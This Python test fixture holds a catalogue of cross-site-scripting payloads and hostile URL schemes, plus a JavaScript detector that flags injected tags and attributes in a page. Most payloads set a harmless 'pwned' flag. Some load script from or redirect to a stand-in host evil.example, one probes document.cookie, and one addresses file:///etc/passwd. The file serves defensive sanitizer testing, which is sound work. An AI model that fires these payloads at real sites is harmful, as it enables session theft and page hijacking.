"""What attackers write into texts, names and addresses so that a page runs it; each would set ``pwned`` or ask."""

from __future__ import annotations

VECTORS = (
    # tags of their own
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>pwned=1</script\n>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<img src=x onerror=pwned=1>",
    "<img src=x oneonerrorrror=pwned=1>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<image src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><set onbegin=pwned=1 attributeName=x to=1>",
    "<svg><a xlink:href=javascript:pwned=1><text x=9 y=9>hier</text></a></svg>",
    "<math><mi xlink:href=javascript:pwned=1>hier</mi></math>",
    "<body onload=pwned=1>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=javascript:pwned=1></object>",
    "<embed src=javascript:pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1></audio>",
    "<details open ontoggle=pwned=1>auf</details>",
    "<input autofocus onfocus=pwned=1>",
    "<select autofocus onfocus=pwned=1></select>",
    "<marquee onstart=pwned=1>lauf</marquee>",
    "<form><button formaction=javascript:pwned=1>weiter</button></form>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<template><img src=x onerror=pwned=1></template>",
    # out of what surrounds them
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    '" autofocus onfocus=pwned=1 x="',
    "' onmouseover=pwned=1 x='",
    "` onmouseover=pwned=1 x=`",
    "</title></textarea></select></style></script><svg onload=pwned=1>",
    "--><img src=x onerror=pwned=1><!--",
    "]]><img src=x onerror=pwned=1>",
    "<!--<img src='--><img src=x onerror=pwned=1>'>",
    # templates, codes, and what reads backwards
    "{{ 7 * 7 }}{% include 'base.html' %}${pwned=1}#{pwned=1}",
    "&lt;img src=x onerror=pwned=1&gt;",
    "\\u003cimg src=x onerror=pwned=1\\u003e",
    "%3Cimg%20src=x%20onerror=pwned=1%3E",
    "\u202e<img src=x onerror=pwned=1>\u2066",
    "\N{FULLWIDTH LESS-THAN SIGN}script>pwned=1<\N{FULLWIDTH SOLIDUS}script>",
)
ADDRESSES = (
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    " javascript:pwned=1",
    "java\tscript:pwned=1",
    "javascript&colon;pwned=1",
    "\x01javascript:pwned=1",
    "data:text/html,<script>opener.pwned=1</script>",
    "vbscript:pwned",
    "//evil.example/x",
    'https://a.example/"onmouseover="pwned=1',
    "https://a.example/'><img src=x onerror=pwned=1>",
    "https://a.example/?<script>pwned=1</script>",
    "blob:https://a.example/x",
    "file:///etc/passwd",
)
FOREIGN = """allowed => {
  const found = "pwned" in window ? ["pwned"] : [], shut = new Set([
    "animate", "applet", "audio", "base", "embed", "foreignobject", "frame", "iframe", "image", "img", "marquee",
    "math", "mi", "object", "portal", "set", "source", "style", "template", "use", "video",
  ]);
  allowed.forEach(name => shut.delete(name));
  for (const one of document.querySelectorAll("*")) {
    const name = one.localName.toLowerCase();
    if (shut.has(name)) found.push(one.outerHTML.slice(0, 120));
    if (name === "script" && one.type !== "application/json" && !/^\\/static\\//.test(one.getAttribute("src")))
      found.push(one.outerHTML.slice(0, 120));
    if (name === "meta" && /refresh/i.test(one.httpEquiv)) found.push(one.outerHTML);
    for (const {name: key, value} of one.attributes) {
      const leads = ["action", "data", "formaction", "href", "src", "srcdoc", "xlink:href"].includes(key);
      if (/^on/i.test(key) || (leads && !/^(https?:\\/\\/|\\/(?!\\/)|\\?|#|$)/i.test(value)))
        found.push(`${name} ${key}=${value}`.slice(0, 120));
    }
  }
  return found;
}"""
"""Run in a page: gives what stands there that is none of ours."""
